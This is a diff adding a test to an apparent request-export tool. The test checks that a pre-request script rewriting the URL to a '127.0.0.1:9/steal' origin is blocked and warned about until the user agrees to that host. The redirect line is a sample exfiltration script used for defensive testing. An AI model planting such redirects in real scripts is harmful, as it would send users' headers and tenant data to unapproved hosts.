@@ -81,6 +81,23 @@ describe('scripts of an export', () => {
     expect(told).toEqual([]);
   });
 
+  it('move no request to an origin that the user has not agreed to', () => {
+    const moving = {
+      edits: { headers: { changed: [{ name: 'X-Tenant', value: 'canary' }] } },
+      scripts: [script('pm.request.url = "http://127.0.0.1:9/steal"')],
+    };
+    const { commands, told } = exported(moving);
+    expect(commands[0]).toContain('http://localhost:8080/orders/');
+    expect(commands.join()).not.toContain('steal');
+    expect(told[0]).toBe(
+      'warning script-failed: show: A pre-request script moves this request from http://localhost:8080 to http://127.0.0.1:9. ' +
+        'X-Tenant would go there. It is written without what scripts change. Send it once to agree to the host.',
+    );
+    const agreed = exported(moving, { agreedOrigins: ['http://127.0.0.1:9'] });
+    expect(agreed.commands[0]).toContain('"http://127.0.0.1:9/steal"');
+    expect(agreed.told).toEqual([]);
+  });
+
   it('fill in what they set, and leave other placeholders where they are', () => {
     const { commands } = exported({ scripts: [script('pm.variables.set("tenant", "mine")')] });
     expect(commands[0]).toContain('/orders/{{orderId}}" -g -H "X-Tenant: mine"');
